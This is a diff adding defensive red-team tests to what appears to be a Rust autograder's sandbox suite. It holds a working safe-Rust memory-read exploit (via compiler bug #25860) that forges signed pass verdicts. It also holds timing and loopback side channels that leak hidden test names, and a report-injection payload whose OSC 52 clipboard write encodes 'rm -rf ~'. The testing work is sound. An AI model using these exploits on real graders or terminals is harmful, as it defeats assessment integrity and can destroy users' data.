@@ -11,14 +11,17 @@
 
 mod common;
 
-use common::{Submission, default_limits, exercise, root, sandbox};
+use common::{Submission, exercise, root, sandbox};
 use std::path::{Path, PathBuf};
 use std::process::Command;
+use std::sync::Arc;
 use std::time::{Duration, Instant};
 use workbook::exercises::Exercise;
 use workbook::grade::Overlay;
 use workbook::grader::{self, ExerciseResult, Limits, Outcome};
 use workbook::manifest::Manifest;
+use workbook::report::{self, Audience};
+use workbook::sandbox::{Mode, Sandbox};
 
 const EX06: &str = "ex06_timeouts";
 /// `first_ok` with no futures: the attack runs where a visible test calls it.
@@ -26,6 +29,10 @@ const FIRST_OK: &str = "    Fut: Future<Output = Result<T, E>>,\n{\n";
 const VISIBLE: &str = "first_ok_of_nothing_is_an_empty_list_of_errors";
 /// A hidden test of exercise 06 (tests/grading.toml): its name must never reach a learner.
 const HIDDEN: &str = "no_job_is_lost_or_handled_twice_whenever_shutdown_comes";
+/// A visible test that calls `run_worker`.
+const VISIBLE_WORKER: &str = "dropping_the_worker_while_it_waits_loses_no_job";
+/// The first line of `run_worker`'s body in the reference.
+const RUN_WORKER: &str = "    let mut report = WorkerReport::default();\n";
 
 /// With the sandbox off (`--sandbox off`, trusted code only) there is no protection to test: the
 /// grader must say so instead. Returns whether the sandbox is on.
@@ -42,10 +49,36 @@ fn sandboxed() -> bool {
 }
 
 fn only(test: &str) -> Limits {
+    only_in(&[test], sandbox())
+}
+
+fn only_in(tests: &[&str], sandbox: Arc<Sandbox>) -> Limits {
     Limits {
-        only: Some(vec![test.to_owned()]),
-        ..default_limits()
+        only: Some(tests.iter().map(|t| t.to_string()).collect()),
+        ..Limits::new(sandbox)
     }
+}
+
+/// Every learner-facing report of `results`, as one text.
+fn learner_reports(results: &[ExerciseResult], sandbox: &Sandbox) -> String {
+    let status = sandbox.status();
+    let mut text = String::new();
+    text.push_str(&report::scorecard(results, Audience::Learner, &status));
+    text.push_str(&report::to_json("attacker", results, Audience::Learner, &status).to_string());
+    text.push_str(&report::to_junit(
+        "attacker",
+        results,
+        Audience::Learner,
+        &status,
+    ));
+    text.push_str(&report::to_markdown(
+        "attacker",
+        results,
+        Audience::Learner,
+        &status,
+    ));
+    text.push_str(&report::to_exercism(results).to_string());
+    text
 }
 
 /// Grades exercise 06 of every submission in one batch, as `grade-class` does.
@@ -86,7 +119,6 @@ fn no_points(result: &ExerciseResult, what: &str) {
 
 /// Everything a grading run's reports say, learner-facing and instructor-facing, as one text.
 fn all_reports(label: &str, results: &[ExerciseResult]) -> String {
-    use workbook::report::{self, Audience};
     let status = sandbox().status();
     let mut text = String::new();
     for audience in [Audience::Learner, Audience::Instructor] {
@@ -861,5 +893,349 @@ fn a_visible_test_cannot_list_or_run_the_hidden_tests_of_its_own_binary() {
     assert!(
         !report.contains(HIDDEN),
         "the learner's report names a hidden test: its binary holds the hidden tests"
+    );
+}
+
+// ------------------------------------------------------------------------------------------------
+// Points not earned: safe Rust that breaks memory safety reads the kit's key
+// ------------------------------------------------------------------------------------------------
+
+/// The attack, planted as `src/pwn.rs` of the untouched stub: a soundness bug of the compiler
+/// (rust-lang/rust#25860, still open) gives `transmute` in `#![forbid(unsafe_code)]` code; the
+/// test reads its own binary for the address of `testkit::verdict::ARMED`, reads key, nonce,
+/// sequence number and verdict fd from memory, writes a correctly signed "passed" record and
+/// exits 0. What stops it here: the test binary is execute-only for the test's user and has no
+/// symbols. What does not: code like this is not *prevented* — it is contained (README, threat
+/// model). Written by a red-team review against the first version of the sandbox, where it scored
+/// the untouched stub 44/44.
+const PWN: &str = r###"//! Safe Rust only (the crate forbids `unsafe`): a compiler soundness bug (rust-lang/rust#25860)
+//! gives `transmute`, which gives arbitrary reads; the kit's key is in a static.
+use std::io::Write;
+
+const STATIC_UNIT: &&() = &&();
+#[inline(never)]
+fn translator_mut<'a, 'b, T: ?Sized>(_a: &'a &'b (), b: &'b mut T) -> &'a mut T {
+    b
+}
+fn expand_mut<'a, 'b, T: ?Sized>(x: &'a mut T) -> &'b mut T {
+    let f: for<'x> fn(_, &'x mut T) -> &'b mut T = translator_mut;
+    f(STATIC_UNIT, x)
+}
+#[allow(dead_code)]
+enum Dummy<A, B> {
+    A(Option<Box<A>>),
+    B(Option<Box<B>>),
+}
+#[inline(never)]
+fn inner<A, B>(dummy: &mut Dummy<A, B>, obj: A) -> B {
+    let Dummy::B(to_b) = dummy else { unreachable!() };
+    let to_b = expand_mut(to_b);
+    *dummy = Dummy::A(Some(Box::new(obj)));
+    std::hint::black_box(dummy);
+    *to_b.take().unwrap()
+}
+fn transmute<A, B>(obj: A) -> B {
+    inner(std::hint::black_box(&mut Dummy::B(None)), obj)
+}
+fn bytes_at(addr: usize, len: usize) -> Vec<u8> {
+    (0..len).map(|i| *transmute::<usize, &'static u8>(addr + i)).collect()
+}
+
+#[inline(never)]
+pub fn pwn_anchor() -> usize {
+    std::hint::black_box(42)
+}
+
+/// The kit's private state, field for field: same definition, same layout.
+#[allow(dead_code)]
+struct Armed {
+    key: [u8; 16],
+    nonce: [u8; 16],
+    out: std::fs::File,
+    next: u64,
+}
+
+fn symbols(elf: &[u8], wanted: &[&str]) -> Vec<Option<u64>> {
+    let u16_ = |o: usize| u16::from_le_bytes(elf[o..o + 2].try_into().unwrap()) as usize;
+    let u32_ = |o: usize| u32::from_le_bytes(elf[o..o + 4].try_into().unwrap()) as usize;
+    let u64_ = |o: usize| u64::from_le_bytes(elf[o..o + 8].try_into().unwrap());
+    let shoff = u64_(0x28) as usize;
+    let shentsize = u16_(0x3a);
+    let shnum = u16_(0x3c);
+    let mut found = vec![None; wanted.len()];
+    for i in 0..shnum {
+        let sh = shoff + i * shentsize;
+        if u32_(sh + 4) != 2 {
+            continue; // SHT_SYMTAB
+        }
+        let (off, size, link) = (u64_(sh + 0x18) as usize, u64_(sh + 0x20) as usize, u32_(sh + 0x28));
+        let str_sh = shoff + link * shentsize;
+        let stroff = u64_(str_sh + 0x18) as usize;
+        for s in (off..off + size).step_by(24) {
+            let name_at = stroff + u32_(s);
+            let end = elf[name_at..].iter().position(|&b| b == 0).unwrap_or(0);
+            let name = String::from_utf8_lossy(&elf[name_at..name_at + end]);
+            for (j, w) in wanted.iter().enumerate() {
+                if found[j].is_none() && name.contains(w) {
+                    found[j] = Some(u64_(s + 8));
+                }
+            }
+        }
+    }
+    found
+}
+
+#[allow(deprecated)]
+fn sign(key: &[u8; 16], nonce: &[u8; 16], seq: u64, test: &str, kind: &str, message: &str) -> String {
+    use std::hash::Hasher;
+    let k0 = u64::from_le_bytes(key[..8].try_into().unwrap());
+    let k1 = u64::from_le_bytes(key[8..].try_into().unwrap());
+    let mut mac = std::hash::SipHasher::new_with_keys(k0, k1);
+    mac.write(nonce);
+    mac.write_u64(seq);
+    for part in [test, kind, message] {
+        mac.write_usize(part.len());
+        mac.write(part.as_bytes());
+    }
+    format!("{:016x}", mac.finish())
+}
+
+/// Writes a valid "passed" verdict for the running test and exits cleanly.
+pub fn forge_pass() {
+    let Some(exe) = std::env::args().next() else { return };
+    let Ok(elf) = std::fs::read(&exe) else { return };
+    let found = symbols(&elf, &["7testkit7verdict5ARMED", "3pwn10pwn_anchor"]);
+    let (Some(armed_at), Some(anchor_at)) = (found[0], found[1]) else { return };
+    let base = (pwn_anchor as fn() -> usize as usize).wrapping_sub(anchor_at as usize);
+    let armed = base.wrapping_add(armed_at as usize);
+    // Where the fields sit: a replica filled with markers.
+    let marker = std::fs::File::open("/dev/null").unwrap();
+    let marker_fd = std::os::fd::AsRawFd::as_raw_fd(&marker);
+    let replica = std::sync::Mutex::new(Some(Some(Armed {
+        key: [0xA5; 16],
+        nonce: [0x5A; 16],
+        out: marker,
+        next: 0x0123_4567_89ab_cdef,
+    })));
+    let size = std::mem::size_of_val(&replica);
+    let seen = bytes_at(&replica as *const _ as usize, size);
+    let find = |pat: &[u8]| seen.windows(pat.len()).position(|w| w == pat);
+    let (Some(k), Some(n), Some(q), Some(f)) = (
+        find(&[0xA5; 16]),
+        find(&[0x5A; 16]),
+        find(&0x0123_4567_89ab_cdefu64.to_le_bytes()),
+        find(&marker_fd.to_le_bytes()),
+    ) else {
+        return;
+    };
+    let real = bytes_at(armed, size);
+    let key: [u8; 16] = real[k..k + 16].try_into().unwrap();
+    let nonce: [u8; 16] = real[n..n + 16].try_into().unwrap();
+    let seq = u64::from_le_bytes(real[q..q + 8].try_into().unwrap());
+    let fd = i32::from_le_bytes(real[f..f + 4].try_into().unwrap());
+    let test = std::thread::current().name().unwrap_or("").to_owned();
+    let mac = sign(&key, &nonce, seq, &test, "passed", "");
+    let mut out: std::fs::File = transmute::<i32, std::fs::File>(fd);
+    let _ = out.write_all(format!("{seq} passed {mac} 0\n").as_bytes());
+    std::process::exit(0);
+}
+"###;
+
+#[test]
+fn the_stub_with_a_memory_reading_forger_earns_no_points() {
+    let ex = exercise(EX06);
+    let s = with_stub(Submission::new("rt_forge"), &ex);
+    let src = s.crate_dir(&ex).join("src");
+    std::fs::write(src.join("pwn.rs"), PWN).unwrap();
+    for file in ["race.rs", "worker.rs"] {
+        let path = src.join(file);
+        let text = std::fs::read_to_string(&path).unwrap();
+        std::fs::write(
+            &path,
+            text.replace("    todo!(", "    crate::pwn::forge_pass();\n    todo!("),
+        )
+        .unwrap();
+    }
+    let lib = src.join("lib.rs");
+    let text = std::fs::read_to_string(&lib).unwrap();
+    std::fs::write(&lib, text.replacen("mod hedge;", "mod hedge;\nmod pwn;", 1)).unwrap();
+    let results = grade(&[&s], &only_in(&[VISIBLE, HIDDEN], sandbox()));
+    let result = &results[0];
+    for test in &result.tests {
+        assert_ne!(
+            test.outcome,
+            Outcome::Passed,
+            "the stub (todo!() everywhere) passed {} by forging the kit's verdict from its own \
+             memory ({}): {result:#?}",
+            test.name,
+            sandbox().status().summary()
+        );
+    }
+}
+
+// ------------------------------------------------------------------------------------------------
+// Hidden material in learner-facing reports: side channels
+// ------------------------------------------------------------------------------------------------
+
+#[test]
+fn a_hidden_test_cannot_signal_its_name_through_its_duration() {
+    // Inside the hidden test, the learner's code knows the test's name (the thread is named after
+    // it) and can read the whole hidden binary. It waits (on the blocking pool: no blocking of
+    // the executor, the test still passes) 100 ms per character of the name; the learner-facing
+    // report prints the duration of "hidden test 32".
+    let ex = exercise(EX06);
+    let code = "    {
+        static ONCE: std::sync::atomic::AtomicBool = std::sync::atomic::AtomicBool::new(false);
+        let name = std::thread::current().name().unwrap_or(\"\").to_owned();
+        let n = name.len() as u64;
+        if !ONCE.swap(true, std::sync::atomic::Ordering::SeqCst) {
+            let _ = tokio::task::spawn_blocking(move || std::thread::sleep(std::time::Duration::from_millis(100 * n))).await;
+        }
+    }";
+    let s =
+        Submission::new("rt_timing")
+            .with_reference(&ex)
+            .inject(&ex, "worker.rs", RUN_WORKER, code);
+    let results = grade(&[&s], &only_in(&[HIDDEN], sandbox()));
+    let test = &results[0].tests[0];
+    assert_eq!(test.outcome, Outcome::Passed, "{test:#?}");
+    let json = report::to_json("attacker", &results, Audience::Learner, &sandbox().status());
+    let shown = &json["exercises"][0]["tests"][0];
+    assert_eq!(shown["name"], "hidden test 1");
+    let decoded = shown["duration_ms"].as_u64().unwrap_or(0) / 100;
+    assert_ne!(
+        decoded as usize,
+        HIDDEN.len(),
+        "the learner-facing report carries the hidden test's duration, and the learner's code \
+         chose it: it encodes the hidden name's length ({} chars): {shown}",
+        HIDDEN.len()
+    );
+}
+
+#[test]
+fn under_landlock_a_hidden_test_cannot_hand_its_secrets_to_a_visible_test() {
+    // No network namespace: the hidden test serves its name and a message of the hidden suite
+    // (read from its own binary) on a loopback TCP port in the ephemeral range, which Landlock
+    // allows; the visible test running beside it fetches them and fails with them as its message.
+    let Ok(landlock) = Sandbox::new(Mode::Landlock, env!("CARGO_BIN_EXE_workbook").as_ref()) else {
+        eprintln!("Landlock does not work here: nothing to test");
+        return;
+    };
+    let landlock = Arc::new(landlock);
+    let ex = exercise(EX06);
+    let port = 40_000 + (std::process::id() % 20_000);
+    let code = format!(
+        "    {{
+        static ONCE: std::sync::atomic::AtomicBool = std::sync::atomic::AtomicBool::new(false);
+        let name = std::thread::current().name().unwrap_or(\"\").to_owned();
+        if !ONCE.swap(true, std::sync::atomic::Ordering::SeqCst) {{
+            if name != \"{VISIBLE_WORKER}\" {{
+                let _ = tokio::task::spawn_blocking(move || {{
+                    let bytes = std::fs::read(std::env::args().next().unwrap_or_default()).unwrap_or_default();
+                    let mark = b\"ran past shutdown\";
+                    let snippet = bytes.windows(mark.len()).position(|w| w == mark)
+                        .map(|i| String::from_utf8_lossy(&bytes[i.saturating_sub(30)..(i + 40).min(bytes.len())]).into_owned())
+                        .unwrap_or_default();
+                    let payload = format!(\"NAME={{name}} SNIPPET={{snippet:?}}\");
+                    if let Ok(l) = std::net::TcpListener::bind(\"127.0.0.1:{port}\") {{
+                        let _ = l.set_nonblocking(true);
+                        let end = std::time::Instant::now() + std::time::Duration::from_secs(5);
+                        while std::time::Instant::now() < end {{
+                            if let Ok((mut c, _)) = l.accept() {{
+                                use std::io::Write;
+                                let _ = c.write_all(payload.as_bytes());
+                            }}
+                            std::thread::sleep(std::time::Duration::from_millis(20));
+                        }}
+                    }}
+                }}).await;
+            }} else {{
+                let got = tokio::task::spawn_blocking(|| {{
+                    use std::io::Read;
+                    let end = std::time::Instant::now() + std::time::Duration::from_secs(4);
+                    while std::time::Instant::now() < end {{
+                        if let Ok(mut c) = std::net::TcpStream::connect(\"127.0.0.1:{port}\") {{
+                            let mut s = String::new();
+                            let _ = c.read_to_string(&mut s);
+                            return s;
+                        }}
+                        std::thread::sleep(std::time::Duration::from_millis(20));
+                    }}
+                    String::new()
+                }}).await.unwrap_or_default();
+                if !got.is_empty() {{ panic!(\"LEAKED {{got}}\"); }}
+            }}
+        }}
+    }}"
+    );
+    let s = Submission::new("rt_loopback").with_reference(&ex).inject(
+        &ex,
+        "worker.rs",
+        RUN_WORKER,
+        &code,
+    );
+    let limits = Limits {
+        jobs: 2,
+        ..only_in(&[HIDDEN, VISIBLE_WORKER], landlock.clone())
+    };
+    let results = grade(&[&s], &limits);
+    let reports = learner_reports(&results, &landlock);
+    assert!(
+        !reports.contains(HIDDEN) && !reports.contains("ran past shutdown"),
+        "under Landlock the hidden test passed its name and hidden-suite text over loopback to \
+         a visible test, whose message the learner sees: {:#?}",
+        results[0].tests
+    );
+}
+
+// ------------------------------------------------------------------------------------------------
+// Report tricks: a visible test's message is learner-controlled text
+// ------------------------------------------------------------------------------------------------
+
+#[test]
+fn a_failure_message_cannot_forge_markdown_or_drive_the_terminal() {
+    let ex = exercise(EX06);
+    // Closes the report's code fence and <details>, adds a grade heading of its own; then, for
+    // the terminal scorecard, reverse-index + carriage return (overwrite the line above) and an
+    // OSC 52 clipboard write: escapes that are not CSI, so `strip_ansi` keeps them.
+    let code = "if futures.is_empty() {
+        panic!(\"oops\\n```\\n\\n</details>\\n\\n## Grade for `me`: 223/223 points\\n\\nall tests passed\\n\\n\\u{1b}M\\u{1b}M\\r  \\u{2713} first_ok_of_nothing_is_an_empty_list_of_errors [passed] 1/1 \\u{1b}]52;c;cm0gLXJmIH4K\\u{7}\");
+    }";
+    let s = Submission::new("rt_inject")
+        .with_reference(&ex)
+        .inject(&ex, "race.rs", FIRST_OK, code);
+    let results = grade(&[&s], &only_in(&[VISIBLE], sandbox()));
+    assert_eq!(results[0].tests[0].outcome, Outcome::Failed, "{results:#?}");
+    let status = sandbox().status();
+    let markdown = report::to_markdown("attacker", &results, Audience::Learner, &status);
+    // Lines outside code blocks, as CommonMark reads them: a fence of N backticks is closed only
+    // by a line of at least N backticks and nothing else.
+    let mut outside = Vec::new();
+    let mut open: Option<usize> = None;
+    for line in markdown.lines() {
+        let t = line.trim();
+        let ticks = t.chars().take_while(|&c| c == '`').count();
+        match open {
+            None if ticks >= 3 => open = Some(ticks),
+            None => outside.push(t),
+            Some(n) if ticks >= n && t.chars().all(|c| c == '`') => open = None,
+            Some(_) => {}
+        }
+    }
+    let headings = outside.iter().filter(|l| l.starts_with("## ")).count();
+    let details_closed = outside.iter().filter(|l| l.contains("</details>")).count();
+    let card = report::scorecard(&results, Audience::Learner, &status);
+    let controls: Vec<char> = card
+        .chars()
+        .filter(|c| c.is_control() && *c != '\n')
+        .collect();
+    assert!(
+        headings == 1 && details_closed == 1 && open.is_none(),
+        "the message closed its code block and added Markdown of its own ({headings} headings, \
+         {details_closed} </details> outside code):\n{markdown}"
+    );
+    assert!(
+        controls.is_empty(),
+        "terminal control characters reach the scorecard: {controls:?}"
     );
 }
